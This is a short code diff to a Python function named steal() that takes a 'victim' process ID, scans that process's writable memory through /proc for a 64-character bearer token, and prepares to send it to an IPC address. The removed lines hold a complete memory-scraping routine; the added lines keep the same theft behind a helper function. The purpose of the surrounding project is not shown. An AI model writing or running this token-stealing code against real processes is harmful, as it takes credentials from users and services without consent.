@@ -9,23 +9,11 @@ victim = ARGS["victim_pid"]
 
 def steal():
     token = None
-    with open("/proc/%d/maps" % victim) as maps, open("/proc/%d/mem" % victim, "rb", 0) as mem:
-        for line in maps:
-            fields = line.split()
-            if len(fields) < 2 or not fields[1].startswith("rw"):
-                continue
-            start, end = (int(x, 16) for x in fields[0].split("-"))
-            if end - start > 64 << 20:
-                continue
-            try:
-                mem.seek(start)
-                chunk = mem.read(end - start)
-            except OSError:
-                continue
-            m = re.search(rb"Bearer ([0-9a-f]{64})", chunk)
-            if m:
-                token = m.group(1).decode()
-                break
+    for chunk in writable_memory(victim):
+        m = re.search(rb"Bearer ([0-9a-f]{64})", chunk)
+        if m:
+            token = m.group(1).decode()
+            break
     if token is None:
         raise LookupError("no token found in the victim's memory")
     host, port = ipc_address()
